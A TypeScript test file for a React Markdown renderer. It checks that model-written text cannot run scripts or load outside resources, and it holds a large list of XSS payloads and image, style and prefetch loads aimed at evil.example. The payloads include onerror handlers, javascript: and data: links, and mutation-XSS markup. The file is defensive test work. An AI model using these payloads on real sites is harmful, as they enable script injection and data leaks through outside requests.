// @vitest-environment jsdom
import { render } from "@testing-library/react";
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { describe, expect, it, vi } from "vitest";
import { Markdown } from "@/components/playground/markdown";
import { expectNoAxeViolations, standInForBrowser } from "../ui/page";

standInForBrowser();

const show = (text: string, live = false) => render(<Markdown text={text} live={live} />).container;

/** Each would run a script if the text were shown as the HTML that Markdown makes of it. */
const scripts: Record<string, string> = {
  "a script": "<script>window.hit = 1</script>",
  "a script in a paragraph": "text <script src='//evil.example/x.js'></script> text",
  "an image that fails": "<img src=x onerror='window.hit=1'>",
  "an svg with a handler": "<svg onload='window.hit=1'><circle/></svg>",
  "an svg with a script": "<svg><script>window.hit=1</script></svg>",
  "an svg that animates a link":
    "<svg><a><animate attributeName=href values='javascript:window.hit=1' /><text>x</text></a></svg>",
  mathml: "<math><mtext><style><img src=x onerror='window.hit=1'></style></mtext></math>",
  "markup that a second reading changes":
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
  "an attribute that closes its element": `<noscript><p title="</noscript><img src=x onerror='window.hit=1'>">`,
  "a template with a handler":
    "<template><img src=x onerror='window.hit=1'></template><img src=y onerror='window.hit=1'>",
  "a details with a handler": "<details open ontoggle='window.hit=1'>x</details>",
  "an input that takes the focus": "<input autofocus onfocus='window.hit=1'>",
  "a body with a handler": "text <body onload='window.hit=1'> <p onclick='window.hit=1'>x</p>",
  "an iframe of script": "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "a form": "<form action='javascript:window.hit=1'><button>x</button></form>",
  "a base for all links": "<base href=javascript:/a/-window.hit=1///////><a href=../x>x</a>",
  "a style": "<style>*{background:url(//evil.example/s)}</style>",
  "a javascript link": "[x](javascript:window.hit=1)",
  "a javascript link in disguise": "[x](JaVaScRiPt:window.hit=1)",
  "a javascript link with entities":
    "[x](&#106;avascript&colon;window.hit=1) [y](&#x6A;avascript&#58;window.hit=1)",
  "a javascript link with control characters":
    "[x](<java\tscript:window.hit=1>) [y](<\u0001javascript:window.hit=1>)",
  "a javascript link under emphasis in a table": "| a |\n|---|\n| **[x](javascript:window.hit=1)** |",
  "a javascript autolink": "<javascript:window.hit=1>",
  "a javascript autolink with an entity": "<javascript:window.hit=1&#59;x>",
  "a vbscript link": "[x](vbscript:msgbox)",
  "a data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "a blob link": "[x](blob:https://evil.example/1)",
  "a javascript reference": "[x][1]\n[1]: x\n\n[y]\n\n[y]: javascript:window.hit=1",
  "a javascript link in a footnote": "x[^1]\n\n[^1]: [y](javascript:window.hit=1)",
  "a comment that closes early": "<!--><img src=x onerror='window.hit=1'>-->",
  "a handler on any element": "x <b onmouseover='window.hit=1'>x</b>",
  "an element in an answer's list": "- a\n\n  <img src=x onerror='window.hit=1'>\n- b",
};

/** Each would ask another server for something, and so tell it what the answer's writer wants told. */
const loads: Record<string, string> = {
  "an image": "![a](https://evil.example/a.png?secret=1)",
  "an image by reference": "![a][1]\n\n[1]: https://evil.example/b.png",
  "an image in a link": "[![a](https://evil.example/c.png)](https://a.example)",
  "an image in a footnote": "x[^1]\n\n[^1]: ![a](https://evil.example/c2.png)",
  "a data image": "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
  "an image element": "<img src='https://evil.example/d.png'>",
  "an image in several sizes": "<img srcset='https://evil.example/e.png 2x'>",
  "an image in svg":
    "<svg><image href='https://evil.example/e2.png' /><use href='https://evil.example/e3.svg#x' /></svg>",
  "a picture": "<picture><source srcset='https://evil.example/f.png'></picture>",
  "a video and a sound":
    "<video src='https://evil.example/g.mp4' poster='https://evil.example/h.png'></video><audio src='https://evil.example/i.mp3'></audio>",
  "an object, an embed and a frame":
    "<object data='https://evil.example/j'></object><embed src='https://evil.example/k'><iframe src='https://evil.example/l'></iframe>",
  "a stylesheet": "<link rel=stylesheet href='https://evil.example/m'>",
  "a prefetch":
    "text <link rel=prefetch href='https://evil.example/n'><link rel=dns-prefetch href=//secret.evil.example>",
  "a refresh": "<meta http-equiv=refresh content='0;https://evil.example/o'>",
  "a style's address": "<p style='background:url(https://evil.example/p)'>x</p>",
  "a style's import": "<style>@import 'https://evil.example/p2';</style>",
  "a background": "<table background='https://evil.example/q'><tr><td>x</table>",
  "a link that reports": "<a href='https://a.example' ping='https://evil.example/r'>x</a>",
  "an input as an image": "<input type=image src='https://evil.example/s'>",
  "a script's map": '<script type=importmap>{"imports":{"x":"https://evil.example/t"}}</script>',
};

const allowed = new Set(
  "DIV P BR HR H3 H4 H5 H6 BLOCKQUOTE PRE CODE SPAN STRONG EM DEL A UL OL LI TABLE THEAD TBODY TR TH TD SUP SECTION BUTTON svg path".split(
    " ",
  ),
);

/** What in a tree could run or load something: elements that are not of an answer, attributes, addresses. */
function harmsIn(root: ParentNode): string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => [
    ...(allowed.has(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes]
      .filter(({ name, value }) =>
        name === "href"
          ? !/^(https?|mailto):/.test(value)
          : /^on|^src|^style$|^srcdoc$|^background$|^poster$|^id$|^action$|^ping$|^data$/.test(name),
      )
      .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
  ]);
}

function expectHarmless(container: HTMLElement): void {
  expect(harmsIn(container)).toEqual([]);
  expect((window as { hit?: number }).hit).toBeUndefined();
}

/** The same text with nothing in between, in a document that neither runs nor loads. */
function withoutProtection(text: string): HTMLElement {
  const made = gfmHtml();
  // Without GitHub's own filter of nine elements.
  delete made.exit?.htmlFlowData;
  delete made.exit?.htmlTextData;
  const html = micromark(text, {
    extensions: [gfm()],
    htmlExtensions: [made],
    allowDangerousHtml: true,
    allowDangerousProtocol: true,
  });
  const { body } = document.implementation.createHTMLDocument("");
  body.innerHTML = html;
  return body;
}

describe("what a model writes", () => {
  for (const [name, text] of Object.entries(scripts)) {
    it(`runs nothing: ${name}`, () => expectHarmless(show(text)));
  }

  for (const [name, text] of Object.entries(loads)) {
    it(`loads nothing: ${name}`, () => {
      const image = vi.spyOn(window, "Image");
      const container = show(text);
      expectHarmless(container);
      expect(
        container.querySelector("img, picture, video, audio, iframe, object, embed, link, meta"),
      ).toBeNull();
      expect(image).not.toHaveBeenCalled();
    });
  }

  it.each(Object.entries({ ...scripts, ...loads }))("would do harm without protection: %s", (_, text) => {
    expect(harmsIn(withoutProtection(text))).not.toEqual([]);
  });

  it("does no harm in the names that stand beside it", () => {
    expectHarmless(show('[x](https://a.example "\\" onmouseover=window.hit=1")'));
    expectHarmless(show("```<img/src=x/onerror=window.hit=1>\nx\n```"));
    expectHarmless(show("| <img src=x onerror=window.hit=1> |\n|---|\n| x |"));
  });

  it("stays harmless cut anywhere, as it streams", () => {
    const text = Object.values({ ...scripts, ...loads }).join("\n\n");
    for (let at = 1; at < text.length; at += 97) {
      const { container, unmount } = render(<Markdown text={text.slice(0, at)} live />);
      expectHarmless(container);
      unmount();
    }
  });

  it("says where an image would have come from", () => {
    expect(show("![chart](https://evil.example/a.png)").textContent).toBe(
      "[image not loaded: chart, https://evil.example/a.png]",
    );
  });

  it("shows raw HTML as the text it is", () => {
    expect(show("Use <b>bold</b> and <br>.").textContent).toBe("Use <b>bold</b> and <br>.");
  });

  it("writes the address beside a link and opens it without a way back", () => {
    const link = show("[Bank](https://evil.example/login)").querySelector("a");
    expect(link?.textContent).toBe("Bank (https://evil.example/login)");
    expect(link?.rel.split(" ")).toEqual(expect.arrayContaining(["noopener", "noreferrer"]));
    expect(link?.target).toBe("_blank");
  });

  it("keeps what Markdown is for", async () => {
    const container = show(
      "# Title\n\nA **bold** word, `code`.\n\n1. one\n2. two\n   - inner\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```ts\nconst a = 1;\n```\n",
    );
    expect(container.querySelector("h3")?.textContent).toBe("Title");
    expect(container.querySelector("strong")?.textContent).toBe("bold");
    expect(container.querySelectorAll("ol > li")).toHaveLength(2);
    expect(container.querySelectorAll("td")).toHaveLength(2);
    expect(container.querySelector("pre")?.textContent).toBe("const a = 1;");
    expect(container.textContent).toContain("☑ done");
    await expectNoAxeViolations();
  });

  it("ends in the caret while it is written, wherever the text ends", () => {
    for (const text of ["Words", "- one\n- two", "> quoted", "| a |\n|---|\n| 1 |", "# Head", "```\ncode"]) {
      const { container, unmount } = render(<Markdown text={text} live />);
      expect(container.querySelectorAll('[aria-hidden="true"].bg-gold')).toHaveLength(1);
      unmount();
      expect(show(text).querySelector(".bg-gold")).toBeNull();
    }
    const end = show("one\n\ntwo", true).querySelector("p:last-child");
    expect(end?.lastElementChild?.className).toContain("bg-gold");
  });
});
